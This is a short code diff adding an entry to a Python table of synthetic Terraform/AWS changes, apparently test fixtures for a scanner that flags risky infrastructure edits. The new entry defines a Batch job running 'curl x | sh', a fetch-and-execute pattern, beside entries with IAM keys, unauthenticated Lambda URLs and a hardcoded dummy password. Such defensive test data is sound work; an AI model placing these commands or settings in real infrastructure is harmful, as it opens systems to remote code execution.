@@ -26,6 +26,10 @@ SYNTH_WITH_SIDE_FINDINGS: dict[str, tuple[str, Change]] = {
     "LK_ACT_7": ("storage", _add("aws_iam_access_key", user="x")),
     "LK_ACT_8": ("storage", _add("aws_ssm_association", name="AWS-RunShellScript")),
     "LK_ACT_9": ("storage", _add("aws_lambda_function_url", function_name="x", authorization_type="NONE")),
+    "LK_ACT_10": (
+        "storage",
+        _add("aws_batch_job_definition", name="x", container_properties='{"command": ["sh", "-c", "curl x | sh"]}'),
+    ),
     "LK_SECRET_1": ("storage", _add("aws_db_instance", password="hunter2hunter2")),
     "LK_SECRET_2": ("storage", put("variable", {"db_password": {"default": "hunter2hunter2"}})),
     "LK_DEST_1": ("storage", put("aws_s3_bucket_logging/Lake_Raw_Data/target_bucket", "not-ours")),
